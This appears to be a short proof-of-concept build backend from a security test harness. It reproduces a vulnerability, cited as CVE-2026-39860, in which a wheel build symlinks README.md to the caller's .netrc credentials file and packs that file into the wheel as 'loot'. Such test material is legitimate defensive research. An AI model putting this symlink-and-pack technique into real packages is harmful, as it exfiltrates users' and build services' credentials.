"""Makes the readme a link to the caller's .netrc, and packs the readme in the next hook.

That what is declared is enough, and no script is needed, was what was new in Miasma. That a
service followed a build's link with its own rights was CVE-2026-39860.
"""

import os
import pathlib

import kit


def get_requires_for_build_wheel(config_settings=None):
    with kit.attempt("link"):
        os.symlink(kit.plant("netrc").path, "README.md")
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("pack"):
        loot["readme.md"] = pathlib.Path("README.md").read_bytes()
    return kit.wheel(wheel_directory, loot)
